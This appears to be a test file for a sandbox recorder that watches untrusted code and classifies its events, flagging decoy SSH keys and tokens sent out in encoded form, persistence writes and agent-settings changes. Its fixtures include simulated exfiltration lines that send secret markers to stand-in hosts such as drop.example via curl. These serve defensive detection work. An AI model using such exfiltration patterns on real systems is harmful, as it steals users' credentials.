import { describe, expect, it } from 'vitest';
import { classify } from '../../src/sandbox/recorder/classify.ts';
import { EventLog } from '../../src/sandbox/recorder/event-log.ts';
import { readRecords } from '../../src/sandbox/recorder/records.ts';
import { readShellCommand, wordsOf } from '../../src/sandbox/recorder/shell-trace.ts';
import { mergeWitnesses } from '../../src/sandbox/recorder/witnesses.ts';

import { steady, steadyText } from '../../src/sandbox/recorder/steady.ts';

const NONCE = 'sbx-0123:';
const record = (value: object): string => `${NONCE}${JSON.stringify(value)}\n`;

describe('readRecords', () => {
  it('takes only lines with the nonce, and keeps the rest as output', () => {
    const forged = `{"t":"failure","phase":"import","type":"X","message":"m"}\nsbx-9999:{"t":"end"}\n`;
    const report = readRecords(
      `hello\n${forged}${record({ t: 'phase', name: 'import', ms: 12 })}half${record({ t: 'end' })}`,
      NONCE,
    );
    expect(report.phases).toEqual([{ name: 'import', ms: 12 }]);
    expect(report.failures).toEqual([]);
    expect(report.isComplete).toBe(true);
    expect(report.output).toBe(`hello\n${forged}half\n`);
  });

  it('is not complete without the last record, and survives broken ones', () => {
    const report = readRecords(
      `${NONCE}{"t":"ev\n${NONCE}[1]\n${NONCE}null\n${record({ t: 'event', kind: 'nonsense' })}`,
      NONCE,
    );
    expect(report).toMatchObject({ events: [], isComplete: false, lost: 0 });
  });

  it('adds up counts and remembers the step at which an event began', () => {
    const event = {
      t: 'event',
      kind: 'connect',
      phase: 'step',
      detail: 'a.example:1',
      first: 5,
      last: 5,
      count: 1,
    };
    const report = readRecords(
      record({ ...event, step: 500 }) + record({ ...event, last: 9, count: 3 }),
      NONCE,
    );
    expect(report.events).toMatchObject([{ count: 4, first: 5, last: 9 }]);
    expect(report.late).toEqual([{ kind: 'connect', detail: 'a.example:1', step: 500, circumstance: null }]);
  });

  it('joins a traced shell command that goes over several lines', () => {
    const trace = `+${NONCE}+ curl -d 'one\ntwo' https://x.example/a\n+${NONCE}+ echo hi\n`;
    const { events, output } = readRecords(trace, NONCE, readShellCommand);
    expect(events.map(({ kind, detail }) => `${kind} ${detail}`)).toEqual([
      'connect https://x.example/a',
      'exec curl -d one\ntwo https://x.example/a',
    ]);
    expect(output.trim()).toBe('');
  });

  it("tells a shell's own functions from programs of the same name, by each shell's next command", () => {
    const line = (place: string, command: string): string => `+${NONCE}+${place}+ ${command}\n`;
    const trace = [
      line('7:0:', 'curl https://x.example/real'),
      line('7:0:', 'curl https://x.example/wrapped'),
      line('9:0:', 'greet'),
      line('7:2:curl', 'echo sending'),
      line('7:2:curl', 'command curl https://x.example/inside'),
      line('9:2:greet', 'say'),
      line('9:3:say', ':'),
      line('7:0:', 'greet'),
    ];
    const { events } = readRecords(trace.join(''), NONCE, readShellCommand);
    expect(events.filter(({ kind }) => kind === 'exec').map(({ detail }) => detail)).toEqual([
      'curl https://x.example/inside',
      'curl https://x.example/real',
      'greet',
    ]);
  });
});

describe('wordsOf', () => {
  it('undoes the quoting of bash', () => {
    expect(wordsOf(`a 'b c' $'d' e\\ f ''`)).toEqual(['a', 'b c', 'd', 'e f', '']);
  });
});

describe('classify', () => {
  const decoys = [
    { name: '~/.ssh/id_rsa', kind: 'file', marker: 'aaaabbbbccccddddeeeeffff' },
    { name: 'GITHUB_TOKEN', kind: 'token', marker: '0f1e2d3c4b5a69788796a5b4' },
  ] as const;
  const surroundings = { decoys, persistencePaths: ['~/.bashrc'], agentPaths: ['~/.claude/**'] };
  const classified = (kind: 'connect' | 'exec' | 'file.open' | 'file.write', detail: string) => {
    const log = new EventLog();
    log.add({ kind, detail, phase: 'run', first: 0 });
    return classify(log.events(), surroundings).events;
  };

  it('knows a decoy file by its place in the home folder', () => {
    expect(classified('file.open', '/home/user/.ssh/id_rsa')).toMatchObject([
      { kind: 'decoy', detail: '~/.ssh/id_rsa', capability: 'secret.read', decoy: '~/.ssh/id_rsa' },
    ]);
    expect(classified('file.open', '/target/.ssh/id_rsa')).toMatchObject([
      { kind: 'file.open', decoy: null },
    ]);
  });

  it.each([
    ['plain', (text: string) => text],
    ['base64', (text: string) => Buffer.from(`xy${text}z`).toString('base64')],
    ['base64', (text: string) => Buffer.from(`x${text}`).toString('base64')],
    ['hex', (text: string) => Buffer.from(text).toString('hex')],
    ['reversed', (text: string) => [...text].reverse().join('')],
  ])('finds a marker on its way out, %s', (disguise, encode) => {
    const events = classified('connect', `https://drop.example/p?k=${encode(decoys[0].marker)}`);
    const stolen = events.find(({ kind }) => kind === 'decoy');
    expect(stolen?.decoy).toBe('~/.ssh/id_rsa');
    expect(stolen?.detail).toBe(disguise === 'plain' ? 'drop.example:443' : `drop.example:443 (${disguise})`);
    expect(events.find(({ kind }) => kind === 'connect')).toMatchObject({
      detail: 'drop.example:443',
      allowed: false,
    });
  });

  it('never repeats a marker in a report', () => {
    const events = classified('exec', `/usr/bin/curl -d ${decoys[1].marker} http://x.example`);
    expect(JSON.stringify(events)).not.toContain(decoys[1].marker);
    expect(events.map(({ kind }) => kind).sort()).toEqual(['decoy', 'exec']);
  });

  it.each([
    ['connect', (marker: string) => `https://${marker}.drop.example/`, '*.drop.example:443'],
    ['connect', (marker: string) => `${marker}.drop.example:8443`, '*.drop.example:8443'],
    ['file.write', (marker: string) => `/tmp/${marker}.txt`, '/tmp/<GITHUB_TOKEN>.txt'],
    ['file.open', (marker: string) => `/tmp/${marker}.txt`, '/tmp/<GITHUB_TOKEN>.txt'],
    ['exec', (marker: string) => `/tmp/${marker} -v`, '/tmp/<GITHUB_TOKEN> -v'],
  ] as const)('never repeats a marker that is part of a name: %s', (kind, detailWith, shown) => {
    const events = classified(kind, detailWith(decoys[1].marker));
    expect(events.find((event) => event.kind === kind)?.detail).toBe(shown);
    expect(JSON.stringify(events)).not.toContain(decoys[1].marker);
  });

  it('tells persistence and agent settings from other writes, and what the sandbox refuses', () => {
    expect(classified('file.write', '/home/user/.bashrc')).toMatchObject([
      { capability: 'persist', allowed: true },
    ]);
    expect(classified('file.write', '/home/user/.claude/settings.json')).toMatchObject([
      { capability: 'agent.control' },
    ]);
    expect(classified('file.write', '/etc/passwd')).toMatchObject([
      { capability: 'fs.write', allowed: false },
    ]);
    expect(classified('file.write', '/tmp/tmpab12cd34/x')).toMatchObject([
      { detail: '/tmp/tmp*/x', allowed: true },
    ]);
  });
});

describe('mergeWitnesses', () => {
  it('counts what both saw once, and leaves out what interpreters do for themselves', () => {
    const inside = new EventLog();
    inside.add({ kind: 'file.open', detail: '/home/user/a', phase: 'import', first: 1 });
    const outside = new EventLog();
    outside.add({ kind: 'file.open', detail: '/home/user/a', phase: 'import', first: 2 });
    outside.add({ kind: 'file.open', detail: '/usr/lib/python3/x.py', phase: 'import', first: 2 });
    outside.add({ kind: 'exec', detail: 'id -u', phase: 'import', first: 3 });
    outside.add({
      kind: 'exec',
      detail: 'python3 -I /opt/sbx/guest/probe_gym.py',
      phase: 'import',
      first: 0,
    });
    const { events } = mergeWitnesses(inside.events(), outside.events());
    expect(events.map(({ detail, count }) => `${detail} ${count}`)).toEqual(['/home/user/a 1', 'id -u 1']);
  });

  it('says that something was refused when the kernel refused it, whatever the program saw of it', () => {
    const inside = new EventLog();
    inside.add({ kind: 'file.write', detail: '/tmp/a', phase: 'run', first: 1 });
    inside.add({ kind: 'file.write', detail: '/home/user/.bashrc', phase: 'run', first: 2 });
    const outside = new EventLog();
    outside.add({ kind: 'file.write', detail: '/tmp/a', phase: 'run', first: 1 });
    outside.add({ kind: 'file.write', detail: '/home/user/.bashrc', phase: 'run', first: 2, allowed: false });
    const { events } = mergeWitnesses(inside.events(), outside.events());
    expect(events.map(({ detail, allowed, count }) => [detail, allowed, count])).toEqual([
      ['/tmp/a', true, 1],
      ['/home/user/.bashrc', false, 1],
    ]);
  });
});

describe('names that are random', () => {
  it.each([
    ['/tmp/tmpab12cd_9', '/tmp/tmp*'],
    ['/tmp/tmpab12cd_9/data.json', '/tmp/tmp*/data.json'],
    ['/tmp/tmp.Xa81kQpZ07/x', '/tmp/tmp.*/x'],
    ['/tmp/build-aB3xYz/out', '/tmp/build-*/out'],
    ['~/Documents/repository/.git/tmphh1h4u68', '~/Documents/repository/.git/tmp*'],
    ['/tmp/3f2c8a10-5b1e-4c53-9d2a-0c7b1f6f1a2b.log', '/tmp/*.log'],
    ['/proc/4711/environ', '/proc/*/environ'],
  ])('%s stands as %s', (path, shown) => {
    expect(steady(path)).toBe(shown);
  });

  it.each([
    '/tmp/download',
    '/tmp/my-report',
    '/tmp/data-123456',
    '~/.ssh/id_ed25519',
    '/tmp/tmpdirs',
    '~/tmpfiles',
  ])('%s stays as it is', (path) => {
    expect(steady(path)).toBe(path);
  });

  it('are told by whoever saw them made up, and by nothing else', () => {
    expect(steady('/tmp/fmd3cyj1', ['fmd3cyj1'])).toBe('/tmp/*');
    expect(steady('~/.git/indexel3u07yy', ['el3u07yy'])).toBe('~/.git/index*');
    expect(steady('~/.ssh/id_rsa', ['~/.ssh/id_rsa', 'id_rsa'])).toBe('~/.ssh/id_rsa');
    expect(steadyText('kill 42 15', [])).toBe('kill * 15');
    expect(steadyText('tar xf /tmp/tmpab12cd_9/a.tar', [])).toBe('tar xf /tmp/tmp*/a.tar');
  });
});
